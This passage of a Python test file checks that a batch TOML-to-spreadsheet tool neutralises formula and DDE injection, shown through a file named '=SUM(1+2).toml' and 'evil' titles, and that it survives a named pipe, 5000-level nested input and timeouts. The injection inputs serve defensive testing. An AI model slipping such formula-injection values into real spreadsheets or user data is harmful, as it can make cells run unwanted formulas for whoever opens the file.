    title, a DDE title, a URL title, a failing file named =SUM(1+2).toml."""
    import csv

    src = tmp_path / "in"
    src.mkdir()
    for i, title in enumerate(EVIL_TITLES):
        text = _top(_top(_text(), "name", f'"evil{i}"'), "title", _toml_string(title))
        (src / f"evil{i}.toml").write_text(text, encoding="utf-8")
    (src / "=SUM(1+2).toml").write_text("not = = toml", encoding="utf-8")
    out = tmp_path / "out"
    assert main(["batch", str(src), "-o", str(out), "-q", "-j", "2"]) == 1
    capsys.readouterr()
    with zipfile.ZipFile(out / "summary.xlsx") as zf:
        for name in zf.namelist():
            data = zf.read(name).decode("utf-8")
            assert "<f>" not in data or "evil" not in data, name
            assert "hyperlink" not in data.lower() or not name.endswith(".rels"), name
    book = openpyxl.load_workbook(out / "summary.xlsx")
    texts = [c for row in book["Summary"].iter_rows() for c in row if isinstance(c.value, str)]
    assert any(c.value == EVIL_TITLES[1] for c in texts)  # the DDE title, kept as text
    assert all(c.data_type == "s" for c in texts)
    with (out / "summary.csv").open(encoding="utf-8") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert any("SUM(1+2).toml" in c for c in cells)

    def number(c: str) -> bool:
        try:
            float(c)
        except ValueError:
            return False
        return True

    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not number(c)]


def test_a_batch_finishes_past_pipes_deep_files_and_stuck_tasks(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A named pipe and a deeply nested file among the scenarios are failure
    rows naming the file (a pipe blocked the batch, a deep file read only
    "RecursionError"); a task over --timeout is a failure row; the index and
    the summary are written."""
    src = tmp_path / "in"
    src.mkdir()
    shutil.copy(SEEDS / f"{SEED}.toml", src)
    os.mkfifo(src / "pipe.toml")
    (src / "deep.toml").write_text("a = " + "[" * 5000 + "]" * 5000 + "\n", encoding="utf-8")
    out = tmp_path / "out"
    assert main(["batch", str(src), "-o", str(out), "-q", "-j", "2"]) == 1
    capsys.readouterr()
    index = (out / "index.html").read_text(encoding="utf-8")
    assert f"{src / 'pipe.toml'}: expected a regular file" in index
    assert f"{src / 'deep.toml'}: nested too deeply" in index
    assert (out / f"{SEED}.xlsx").exists() and (out / "summary.csv").exists()
    slow = tmp_path / "slow"
    assert (
        main(["batch", str(SEEDS / f"{SEED}.toml"), "-o", str(slow), "-q", "--timeout", "0.001"])
        == 1
    )
    err = capsys.readouterr().err
    assert "the time limit of one scenario (--timeout)" in err and "Traceback" not in err
    assert (slow / "index.html").exists() and not (slow / f"{SEED}.xlsx").exists()
